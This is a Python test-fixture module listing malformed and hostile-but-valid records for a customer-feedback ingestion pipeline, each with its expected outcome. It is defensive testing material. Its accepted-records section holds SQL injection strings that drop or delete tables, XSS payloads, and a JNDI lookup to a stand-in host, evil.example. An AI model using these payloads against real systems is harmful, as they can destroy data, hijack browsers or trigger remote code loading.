"""A corpus of bad (and hostile-but-valid) records for the raw topic, with the outcome each must get.

Each kind is (name, record bytes, expected): expected is ("dead", reason, detail fragment) for records
the scoring stage must dead-letter, or ("accept", text) for hostile strings inside otherwise valid
events that must be stored verbatim. Shared by tests/reliability/test_poison.py and
bench/poison_throughput.py.
"""

from __future__ import annotations

from typing import Any

import orjson

BASE: dict[str, Any] = {
    "event_id": "x", "customer_id": "poison-customer", "channel": "email",
    "event_time": "2026-03-01T09:00:00Z", "text": "The parcel arrived late again.",
}

Expected = tuple[str, ...]


def _with(eid: str, **changes: Any) -> bytes:
    d = {**BASE, "event_id": eid, **changes}
    return orjson.dumps({k: v for k, v in d.items() if v is not _DROP})


class _Drop:
    pass


_DROP: Any = _Drop()


def kinds(prefix: str = "bad") -> list[tuple[str, bytes, Expected]]:
    """The corpus; event ids start with ``prefix`` so several runs can share a topic."""
    out: list[tuple[str, bytes, Expected]] = []

    def dead(name: str, data: bytes, reason: str, detail: str = "") -> None:
        out.append((name, data, ("dead", reason, detail)))

    def bad_field(name: str, detail: str, **changes: Any) -> None:
        dead(name, _with(f"{prefix}-{name}", **changes), "invalid_event", detail)

    def accept(name: str, text: str, **changes: Any) -> None:
        out.append((name, _with(f"{prefix}-{name}", text=text, **changes), ("accept", text)))

    # Not JSON at all / not a JSON object.
    dead("empty", b"", "empty_record")
    dead("not_json", b"hello, I am not json", "invalid_json")
    dead("truncated", _with(f"{prefix}-truncated")[:-7], "invalid_json")
    dead("trailing_garbage", _with(f"{prefix}-trailing") + b"}}", "invalid_json")
    dead("invalid_utf8", _with(f"{prefix}-utf8").replace(b"late", b"l\xff\xfete"), "invalid_json")
    dead("lone_surrogate", b'{"text": "\\ud800"}', "invalid_json")
    dead("nan_literal", b'{"stars": NaN}', "invalid_json")
    dead("single_quotes", b"{'event_id': 'x'}", "invalid_json")
    dead("bom_prefixed", b"\xef\xbb\xbf" + _with(f"{prefix}-bom"), "invalid_json")
    dead("json_array", b"[1, 2, 3]", "invalid_event", "list")
    dead("json_string", b'"just a string"', "invalid_event", "str")
    dead("json_number", b"42", "invalid_event", "int")
    dead("json_null", b"null", "invalid_event", "NoneType")
    dead("json_true", b"true", "invalid_event", "bool")
    dead("empty_object", b"{}", "invalid_event", "(")
    dead("nested_garbage", orjson.dumps({"a": {"b": [{"c": None}] * 5}}), "invalid_event", "")
    dead("deep_nesting", b"[" * 2000 + b"]" * 2000, "invalid_json")
    # Missing required fields.
    for field in ("event_id", "customer_id", "channel", "event_time"):
        bad_field(f"missing_{field}", field, **{field: _DROP})
    # Wrong types per field.
    bad_field("event_id_int", "event_id", event_id=12345)
    bad_field("event_id_spaces", "event_id", event_id="has spaces in it")
    bad_field("event_id_too_long", "event_id", event_id="a" * 200)
    bad_field("event_id_empty", "event_id", event_id="")
    bad_field("customer_id_list", "customer_id", customer_id=["c1"])
    bad_field("customer_id_null", "customer_id", customer_id=None)
    bad_field("customer_id_unicode", "customer_id", customer_id="клиент")
    bad_field("channel_unknown", "channel", channel="carrier_pigeon")
    bad_field("channel_int", "channel", channel=3)
    bad_field("channel_uppercase", "channel", channel="EMAIL")
    bad_field("text_int", "text", text=42)
    bad_field("text_object", "text", text={"body": "hi"})
    bad_field("text_list", "text", text=["a", "b"])
    bad_field("text_too_long", "text", text="x" * 20_001)
    bad_field("text_huge", "text", text="complaint " * 50_000)
    bad_field("text_nul", "text", text="before\x00after")
    bad_field("text_escape_seq", "text", text="\x1b[31mred\x1b[0m")
    bad_field("text_bell", "text", text="ding\x07")
    bad_field("text_del", "text", text="rubout\x7f")
    bad_field("subject_control", "subject", subject="hi\x01there")
    bad_field("subject_too_long", "subject", subject="s" * 1001)
    # Ratings out of range / wrong type.
    bad_field("stars_zero", "stars", stars=0)
    bad_field("stars_six", "stars", stars=6)
    bad_field("stars_negative", "stars", stars=-1)
    bad_field("stars_fraction", "stars", stars=3.5)
    bad_field("stars_word", "stars", stars="five")
    bad_field("csat_high", "csat", csat=9)
    bad_field("nps_eleven", "nps", nps=11)
    bad_field("nps_negative", "nps", nps=-3)
    bad_field("duration_negative", "duration_s", duration_s=-5)
    bad_field("duration_year", "duration_s", duration_s=10**9)
    bad_field("asr_confidence_over_one", "asr_confidence", asr_confidence=1.5)
    bad_field("customer_value_negative", "customer_value", customer_value=-100)
    bad_field("public_string", "public", public="sometimes")
    # Timestamps.
    bad_field("naive_timestamp", "event_time", event_time="2026-03-01T09:00:00")
    bad_field("date_only", "event_time", event_time="2026-03-01")
    bad_field("bad_timestamp", "event_time", event_time="yesterday at noon")
    bad_field("timestamp_month_13", "event_time", event_time="2026-13-01T09:00:00Z")
    bad_field("timestamp_null", "event_time", event_time=None)
    # Contract shape.
    bad_field("unknown_field", "surprise", surprise="!")
    bad_field("schema_version_2", "schema_version", schema_version=2)
    bad_field("language_hint_long", "language_hint", language_hint="x" * 50)
    bad_field("segment_long", "segment", segment="s" * 100)

    # Hostile but valid: must be accepted and stored exactly as sent.
    accept("sql_drop", "'); DROP TABLE feedback_events; --")
    accept("sql_or", "\" OR 1=1 -- and also ' OR ''='")
    accept("sql_union", "x' UNION SELECT name, engine FROM system.tables --")
    accept("clickhouse_format", "1) FORMAT TabSeparated; SELECT * FROM system.users --")
    accept("backslashes", "C:\\Users\\me\\ path with \\' quote and \\\\ double")
    accept("script_tag", "<script>alert('x')</script> the app is broken")
    accept("img_onerror", "<img src=x onerror=alert(1)> still no refund")
    accept("template_injection", "{{7*7}} ${jndi:ldap://evil.example/a} %(name)s {0}")
    accept("percent_params", "100% broken %s %d %(text)s")
    accept("grafana_var", "$__timeFilter(time) $customer_id")
    accept("emoji_rtl", "Terrible 😡😡 \u202eevil\u202c مرحبا שלום")
    accept("newlines_tabs", "line one\nline two\r\n\tindented")
    accept("sql_in_subject", "Normal text, hostile subject.", subject="'; DELETE FROM customer_alerts; --")
    return out


def poison_ids(prefix: str = "bad") -> dict[str, str]:
    """event id -> kind name for the accepted (hostile-but-valid) kinds."""
    return {f"{prefix}-{name}": name for name, _, exp in kinds(prefix) if exp[0] == "accept"}
